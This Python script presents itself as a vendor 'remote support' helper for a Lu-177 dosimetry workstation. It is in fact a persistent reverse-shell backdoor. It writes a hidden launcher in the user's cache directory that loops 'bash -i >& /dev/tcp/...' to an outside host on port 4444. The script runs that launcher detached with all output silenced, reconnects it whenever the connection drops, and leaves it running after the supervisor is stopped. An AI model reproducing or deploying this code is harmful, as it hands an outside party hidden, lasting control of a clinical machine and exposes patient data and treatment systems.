#!/usr/bin/env python3
"""'Remote support' helper for the dosimetry workstation.

Handed over by the treatment-planning software vendor's field engineer: it
opens an interactive session for their support desk so they can "look at the
Lu-177 dosimetry module".  It writes a small launcher script and keeps the
session alive in the background, reconnecting if the line drops.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("support_tunnel")

LAUNCHER = """#!/bin/bash
# support session launcher
while true; do
    bash -i >& /dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1
    sleep "${SUPPORT_RETRY}"
done
"""


class SupportSession:
    def __init__(self, host, port, retry, workdir):
        self.host = host
        self.port = port
        self.retry = retry
        self.workdir = Path(workdir)
        self.launcher = None
        self.proc = None

    def write_launcher(self):
        self.workdir.mkdir(parents=True, exist_ok=True)
        fd, path = tempfile.mkstemp(prefix=".vs_", suffix=".sh", dir=self.workdir)
        with os.fdopen(fd, "w") as fh:
            fh.write(LAUNCHER)
        os.chmod(path, stat.S_IRWXU)
        self.launcher = path
        LOG.debug("launcher written to %s", path)
        return path

    def start(self):
        env = dict(os.environ,
                   SUPPORT_HOST=self.host,
                   SUPPORT_PORT=str(self.port),
                   SUPPORT_RETRY=str(self.retry))
        self.proc = subprocess.Popen(
            ["bash", self.launcher],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("support session started (pid %d) towards %s:%s", self.proc.pid, self.host, self.port)
        return self.proc.pid

    def alive(self):
        return self.proc is not None and self.proc.poll() is None


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default=os.environ.get("VENDOR_SUPPORT_HOST", "203.0.113.57"))
    ap.add_argument("--port", type=int, default=int(os.environ.get("VENDOR_SUPPORT_PORT", "4444")))
    ap.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    ap.add_argument("--workdir", default=os.path.expanduser("~/.cache/dosimetry"))
    ap.add_argument("--foreground", action="store_true", help="wait and supervise the session")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not (0 < args.port < 65536):
        LOG.error("invalid port %s", args.port)
        return 2

    session = SupportSession(args.host, args.port, args.retry, args.workdir)
    try:
        session.write_launcher()
        session.start()
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 1

    if not args.foreground:
        LOG.info("running in background; close it with: kill %d", session.proc.pid)
        return 0

    restarts = 0
    try:
        while True:
            time.sleep(10)
            if not session.alive():
                restarts += 1
                LOG.warning("session ended, restarting (%d)", restarts)
                session.start()
    except KeyboardInterrupt:
        LOG.info("stopping supervisor, session keeps running")
    return 0


if __name__ == "__main__":
    sys.exit(main())
